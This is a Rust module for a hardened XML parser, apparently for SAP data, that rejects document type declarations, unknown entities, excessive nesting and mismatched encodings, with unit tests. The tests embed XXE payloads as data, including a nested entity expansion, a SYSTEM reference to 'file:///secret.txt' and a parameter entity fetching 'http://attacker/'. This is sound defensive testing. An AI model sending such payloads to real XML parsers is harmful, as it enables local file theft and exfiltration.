//! XML as a tree, read by events within limits: no document types, no entities but the five, no
//! deep nesting. Attributes are left out; SAP puts no data into them.

use std::borrow::Cow;

use quick_xml::NsReader;
use quick_xml::events::{BytesRef, BytesStart, Event};
use quick_xml::name::ResolveResult;

/// Deepest nesting.
pub(super) const DEPTH_MAX: usize = 64;
/// Most attributes of one element.
pub(super) const ATTRIBUTES_MAX: usize = 256;

/// An element.
#[derive(Clone, Debug, Default, PartialEq)]
pub(super) struct Element {
    /// Its namespace, if it is one of those that were asked for.
    pub namespace: Option<&'static str>,
    pub name: String,
    pub text: String,
    pub children: Vec<Element>,
}

impl Element {
    pub fn leaf(name: &str, text: &str) -> Self {
        Self { name: name.to_owned(), text: text.to_owned(), ..Self::default() }
    }

    pub fn of(name: &str, children: Vec<Self>) -> Self {
        Self { name: name.to_owned(), children, ..Self::default() }
    }

    pub fn child(&self, name: &str) -> Option<&Self> {
        self.children.iter().find(|child| child.name == name)
    }
}

/// The root of a document. Elements in one of `namespaces` remember it.
pub(super) fn parse(body: &[u8], namespaces: &[&'static str]) -> Result<Element, String> {
    let text = decoded(body)?;
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = NsReader::from_str(text);
    tree(&mut reader, namespaces).map_err(|problem| {
        let at = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
        let before = &text.as_bytes()[..at.min(text.len())];
        let line = 1 + before.iter().filter(|byte| **byte == b'\n').count();
        format!("{problem} (line {line})")
    })
}

fn tree(reader: &mut NsReader<&[u8]>, namespaces: &[&'static str]) -> Result<Element, String> {
    let mut stack: Vec<Element> = Vec::new();
    let mut root = None;
    loop {
        let at = reader.buffer_position();
        let (resolved, event) = reader
            .read_resolved_event()
            .map_err(|error| format!("XML-TRUNC: {error} at byte {at}"))?;
        let namespace = match resolved {
            ResolveResult::Bound(bound) => {
                namespaces.iter().copied().find(|known| bound.as_ref() == *known)
            }
            _ => None,
        };
        match event {
            Event::Start(start) => {
                if stack.is_empty() && root.is_some() {
                    return Err("XML-ROOT: there is more than one root element".to_owned());
                }
                stack.push(opened(&start, namespace, stack.len())?);
            }
            Event::Empty(start) => {
                let element = opened(&start, namespace, stack.len())?;
                close(element, &mut stack, &mut root);
            }
            Event::End(_) => {
                let element = stack.pop().ok_or("XML-TRUNC: an element ends that never began")?;
                close(element, &mut stack, &mut root);
            }
            Event::Text(text) => {
                if let Some(open) = stack.last_mut() {
                    open.text.push_str(&text);
                }
            }
            Event::CData(data) => {
                if let Some(open) = stack.last_mut() {
                    open.text.push_str(&data);
                }
            }
            Event::GeneralRef(reference) => {
                let character = entity(&reference)?;
                if let Some(open) = stack.last_mut() {
                    open.text.push(character);
                }
            }
            Event::DocType(_) => {
                return Err("XML-DOCTYPE: document type declarations are not allowed".to_owned());
            }
            Event::Eof => break,
            Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
        }
    }
    if let Some(open) = stack.last() {
        return Err(format!("XML-TRUNC: document ends inside <{}>", open.name));
    }
    root.ok_or_else(|| "XML-TRUNC: there is no element".to_owned())
}

/// The text of a document in the encoding that it declares: UTF-8, or ISO-8859-1 of older kernels.
pub(super) fn decoded(body: &[u8]) -> Result<Cow<'_, str>, String> {
    let utf_8 = || {
        let text = std::str::from_utf8(body).map_err(|_| "XML-ENCODING: it is not UTF-8");
        text.map(Cow::Borrowed).map_err(str::to_owned)
    };
    let Some(declared) = declared_encoding(body) else { return utf_8() };
    match declared.to_ascii_lowercase().as_str() {
        "utf-8" | "utf8" | "us-ascii" => utf_8(),
        // Latin 1 is the first 256 characters of Unicode.
        "iso-8859-1" | "latin1" => Ok(body.iter().copied().map(char::from).collect()),
        _ => Err(format!("XML-ENCODING: declared encoding {declared} does not match the bytes")),
    }
}

/// What `encoding="..."` of the XML declaration says.
fn declared_encoding(body: &[u8]) -> Option<String> {
    let head: String = body.iter().take(200).copied().map(char::from).collect();
    let declaration = head.get(head.find("<?xml")?..head.find("?>")?)?;
    let value = declaration.split("encoding").nth(1)?.trim_start().strip_prefix('=')?.trim_start();
    let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
    value[1..].split(quote).next().map(str::to_owned)
}

fn opened(
    start: &BytesStart<'_>,
    namespace: Option<&'static str>,
    depth: usize,
) -> Result<Element, String> {
    if depth >= DEPTH_MAX {
        return Err(format!("XML-LIMIT: nesting deeper than {DEPTH_MAX}"));
    }
    if start.attributes().take(ATTRIBUTES_MAX + 1).count() > ATTRIBUTES_MAX {
        return Err(format!("XML-LIMIT: more than {ATTRIBUTES_MAX} attributes"));
    }
    let name = start.local_name().as_ref().to_owned();
    Ok(Element { namespace, name, ..Element::default() })
}

fn close(mut element: Element, stack: &mut [Element], root: &mut Option<Element>) {
    if element.children.is_empty() {
        // Trailing blanks are not significant in SAP.
        element.text.truncate(element.text.trim_end().len());
    } else {
        element.text.clear();
    }
    match stack.last_mut() {
        Some(parent) => parent.children.push(element),
        None => *root = Some(element),
    }
}

/// The character of `&lt;`, `&#65;` and the like.
pub(super) fn entity(reference: &BytesRef<'_>) -> Result<char, String> {
    if let Some(character) =
        reference.resolve_char_ref().map_err(|error| format!("XML-CHAR: {error}"))?
    {
        return if is_legal(character) {
            Ok(character)
        } else {
            Err("XML-CHAR: character reference not allowed in XML".to_owned())
        };
    }
    match reference.as_ref() {
        "lt" => Ok('<'),
        "gt" => Ok('>'),
        "amp" => Ok('&'),
        "quot" => Ok('"'),
        "apos" => Ok('\''),
        other => Err(format!("XML-ENTITY: entity {other} is not defined")),
    }
}

/// Whether XML 1.0 allows a character.
pub(super) fn is_legal(character: char) -> bool {
    matches!(character, '\t' | '\n' | '\r')
        || (character >= ' ' && !matches!(character, '\u{fffe}' | '\u{ffff}'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refusal(xml: &str) -> String {
        parse(xml.as_bytes(), &[]).unwrap_err()
    }

    #[test]
    fn xml_01_02_03_document_types_are_refused_whatever_they_declare() {
        assert!(refusal("<?xml version=\"1.0\"?>\n\n<!DOCTYPE x><x/>").ends_with("(line 3)"));
        for declaration in [
            "<!DOCTYPE x [<!ENTITY a \"b\"><!ENTITY c \"&a;&a;\">]>",
            "<!DOCTYPE x SYSTEM \"file:///secret.txt\">",
            "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]>",
        ] {
            assert!(refusal(&format!("{declaration}<x/>")).starts_with("XML-DOCTYPE"));
        }
    }

    #[test]
    fn xml_04_05_only_the_five_entities_and_legal_characters_exist() {
        assert!(refusal("<a>&foo;</a>").starts_with("XML-ENTITY: entity foo"));
        assert!(refusal("<a>&#x0;</a>").starts_with("XML-CHAR"));
        assert!(refusal("<a>&#xFFFE;</a>").starts_with("XML-CHAR"));
        let fine = parse(b"<a>&lt;&#65;&#x42;&amp;&gt;</a>", &[]).unwrap();
        assert_eq!(fine.text, "<AB&>");
    }

    #[test]
    fn xml_06_a_document_that_breaks_off_is_refused() {
        assert_eq!(refusal("<a><b>1</b>"), "XML-TRUNC: document ends inside <a>");
        assert!(refusal("").starts_with("XML-TRUNC"));
        assert!(refusal("<a/><b></b>").starts_with("XML-ROOT"));
    }

    #[test]
    fn xml_07_08_width_and_depth_are_limited() {
        let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"1\"")).collect();
        let deep = "<a>".repeat(100_000);

        assert!(refusal(&format!("<x{attributes}/>")).starts_with("XML-LIMIT: more than 256"));
        assert!(refusal(&deep).starts_with("XML-LIMIT: nesting deeper than 64"));
    }

    #[test]
    fn xml_09_10_the_declared_encoding_is_the_one_that_is_read() {
        let utf_16 = refusal("<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>");
        let latin_1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>Gr\xfc\xdfe</a>";

        assert!(utf_16.starts_with("XML-ENCODING: declared encoding UTF-16"), "{utf_16}");
        assert_eq!(parse(latin_1, &[]).unwrap().text, "Grüße");
        assert!(parse(b"<a>\xfc</a>", &[]).unwrap_err().starts_with("XML-ENCODING"));
    }

    #[test]
    fn an_element_knows_its_namespace_whatever_the_prefix() {
        let root = parse(b"<p:a xmlns:p='urn:x'><b xmlns='urn:y'/></p:a>", &["urn:x"]).unwrap();

        assert_eq!((root.namespace, root.children[0].namespace), (Some("urn:x"), None));
    }
}
